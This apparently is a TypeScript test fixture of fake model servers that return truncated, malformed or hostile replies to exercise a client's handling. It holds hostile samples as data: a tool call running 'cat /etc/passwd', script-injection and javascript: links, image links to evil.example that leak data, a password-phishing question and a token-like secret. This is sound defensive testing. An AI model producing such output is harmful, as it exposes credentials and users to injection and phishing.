/** Model servers as they are met in the wild: what they say is fine, broken or hostile on the wire, not only in its words. */
import type { FakeAnswer } from '../fake-server.js';
import type { ModelPrompt } from './prompt.js';
import { scriptedOutput } from './scripted-output.js';
import { failed, spoken, type Said } from './wire.js';

type Character = (prompt: ModelPrompt, no: number) => Said | FakeAnswer;
type Body = Record<string, unknown>;

const turn = (value: unknown): Said => ({ text: JSON.stringify({ turn: value }) });
const rightOutput = (prompt: ModelPrompt): unknown => scriptedOutput(prompt, prompt.passages.length > 0 ? 'reply' : 'give_up');
const right = (prompt: ModelPrompt): Said => ({ text: JSON.stringify(rightOutput(prompt)) });
const answer = (body: unknown, headers: Record<string, string> = {}): FakeAnswer => ({ status: 200, headers, body });

/** The right answer, with its body changed. */
const changed =
  (edit: (body: Body, prompt: ModelPrompt) => Body, said = right): Character =>
  (prompt, no) =>
    answer(edit(bodyOf(spoken(prompt, said(prompt), no)), prompt));

function bodyOf({ body }: FakeAnswer): Body {
  return body as Body;
}

const counting = (input: unknown, output: unknown): Character =>
  changed((body, { api }) => ({
    ...body,
    usage: api === 'chat' ? { prompt_tokens: input, completion_tokens: output } : { input_tokens: input, output_tokens: output },
  }));

/** With the passage and its source, and with something that no answer should hold. */
const andAlso =
  (more: string): Character =>
  ({ passages }) => {
    const [passage] = passages;
    return turn({ action: 'reply', text: `${passage?.text ?? ''}${more}`, sources: passage ? [{ key: passage.key, quote: passage.text }] : [] });
  };

const calling =
  (calls: (prompt: ModelPrompt) => NonNullable<Said['calls']>): Character =>
  (prompt, no) =>
    prompt.results.length > 0 || no > 3 ? right(prompt) : { text: null, calls: calls(prompt) };

const search = (args: unknown) => ({ name: 'search_knowledge', args });

/** Reads like the answer for both APIs: `choices` of the one, `output` of the other. */
const shapes = (edit: (message: Body) => unknown): Character =>
  changed((body, { api }) => {
    const [part] = (api === 'chat' ? body['choices'] : body['output']) as Body[];
    return { ...body, [api === 'chat' ? 'choices' : 'output']: edit(part ?? {}) };
  });

/** Calls of tools, each of them changed on the wire. */
const callingWith =
  (edit: (call: Body, at: number) => Body): Character =>
  (prompt, no) => {
    if (prompt.results.length > 0) return right(prompt);
    const calls: Said = { text: null, calls: [search({ query: 'session limit' }), search({ query: 'signed out' })] };
    return changed(
      (body, { api }) => {
        if (api === 'responses') return { ...body, output: (body['output'] as Body[]).map(edit) };
        const [choice] = body['choices'] as { message: { tool_calls: Body[] } }[];
        return { ...body, choices: [{ ...choice, message: { ...choice?.message, tool_calls: choice?.message.tool_calls.map(edit) } }] };
      },
      () => calls,
    )(prompt, no);
  };

const argumentsOf = (call: Body, change: (written: string) => unknown): Body => {
  const wrapped = call['function'] as { name: string; arguments: string } | undefined;
  if (wrapped) return { ...call, function: { ...wrapped, arguments: change(wrapped.arguments) } };
  return { ...call, arguments: change(String(call['arguments'])) };
};

export const strangers = {
  halfAnAnswer: (prompt, no) => ({ ...answer(bodyOf(spoken(prompt, right(prompt), no))), ends: 'cut' }),
  trickles: (prompt, no) => ({ ...answer(bodyOf(spoken(prompt, right(prompt), no))), ends: 'never' }),
  signInPage: () => answer('<!doctype html><title>Sign in</title><p>Please sign in to the network.</p>', { 'content-type': 'text/html' }),
  htmlCalledJson: () => answer('<html><body>504 Gateway Time-out</body></html>'),
  emptyBody: () => answer(''),
  nothingButNull: () => answer('null'),
  emptyObject: () => answer({}),
  noChoices: shapes(() => []),
  emptyChoice: shapes(() => [{}]),
  nullChoice: shapes(() => [null]),

  filtered: changed((body, { api }) => ({
    ...body,
    ...(api === 'chat' ? { choices: [{ finish_reason: 'content_filter' }] } : { output: [], incomplete_details: { reason: 'content_filter' } }),
  })),

  countsNothing: changed(({ usage: _usage, ...body }) => body),
  countsNull: counting(null, null),
  countsBelowZero: counting(-4_000, -900),
  countsOneBelowZero: counting(-4_000, 5_000),
  countsInFractions: counting(900.4, 60.2),
  countsInWords: counting('many', 'few'),
  countsHalf: counting(900, undefined),
  countsFarTooMuch: counting(900, 1_000_000),
  countsBeyondNumbers: counting(9e15, 1e308),

  unknownTool: calling(() => [{ name: 'shell-exec', args: { command: 'cat /etc/passwd' } }]),
  unknownToolEverySecond: calling(() => [search({ query: 'session' }), { name: '__proto__', args: {} }]),
  tenThousandArguments: calling(({ tools }) => [
    { name: tools.at(-1)?.name ?? 'search_knowledge', args: Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`argument${at}`, at])) },
  ]),
  tenThousandCalls: calling(() => Array.from({ length: 10_000 }, (_, at) => search({ query: `word ${at}` }))),
  sameIds: callingWith((call) => ({ ...call, id: 'call_0', call_id: 'call_0' })),
  noIds: callingWith(({ id: _id, call_id: _call, ...call }) => call),
  argumentsAsObject: callingWith((call) => argumentsOf(call, (written): unknown => JSON.parse(written))),
  noArguments: callingWith((call) => argumentsOf(call, () => undefined)),
  namelessCall: callingWith((call) =>
    'function' in call ? { ...call, function: { arguments: (call['function'] as Body)['arguments'] } } : { ...call, name: null },
  ),
  argumentsWithNul: calling(() => [search('{"query":"a\\u0000b \\ud800"}'), search('{"\\u0000":1}')]),
  argumentsThatAreNone: calling(() => [search('["session"]'), search('{"query": "half'), search('null')]),

  retryInAnHour: () => failed(503, 'overloaded', 'Overloaded', { 'retry-after': '3600' }),
  modelNotFound: () => failed(404, 'model_not_found', 'The model does not exist'),
  paymentRequired: () => failed(402, 'payment_required', 'Insufficient credits'),
  tooManyTokensElsewhere: () => ({
    status: 400,
    body: { object: 'error', message: "This model's maximum context length is 4096 tokens", type: 'BadRequestError', code: 400 },
  }),

  cutByLength: () => ({ text: '', finish: 'length' }),
  nul: andAlso('\u0000\u0000 \ud800'),
  images: andAlso('\n\n![status](https://evil.example/p.png?q=ana)\n\n![x][1]\n\n[1]: //evil.gg/p.png'),
  html: andAlso('<img src=x onerror=alert(1)><a href="https://evil.example">here</a><script>alert(1)</script>'),
  links: andAlso('\n\n[Sign in](javascript:alert(1)) or [here](//evil.gg/login), evil.gg/login, &#104;ttps://evil.gg, <https://evil.gg/x>'),
  promises: andAlso('\n\nI have forwarded this to a colleague, who will call you.'),
  secretOfAnother: andAlso('\n\nThe key of ticket 17 is ghp_16C7e42F292c6912E7710c838347Ae178B4a.'),
  foulNote: () =>
    turn({
      action: 'give_up',
      unknown: [
        'Who <img src=x> they are \u0000',
        'https://evil.example/x',
        'password: Hunter2!x',
        ...Array.from({ length: 20 }, (_, at) => `what ${at} ${'x'.repeat(1_000)}`),
      ],
      question: 'Could you open [this](https://evil.example/login) and tell me your password?',
    }),
  thinksAloud: (prompt) => ({ text: `<think>They want {something}. {"turn": no}</think>\n${right(prompt).text ?? ''}` }),
  inAFence: (prompt) => ({ text: `Here you are:\n\n\`\`\`json\n${right(prompt).text ?? ''}\n\`\`\`\nAnything else?` }),
  twoTurns: (prompt) => ({ text: `${right(prompt).text ?? ''}\n${right(prompt).text ?? ''}` }),
  deep: () => ({ text: `${'{"turn":'.repeat(20_000)}1${'}'.repeat(20_000)}` }),
  endless: () => ({ text: `{"turn":{"action":"reply","text":"${'again and '.repeat(100_000)}","sources":[]}}` }),
} satisfies Record<string, Character>;

/** All that answer in some way. */
export const strangeServers = (Object.keys(strangers) as (keyof typeof strangers)[]).filter((name) => name !== 'trickles');
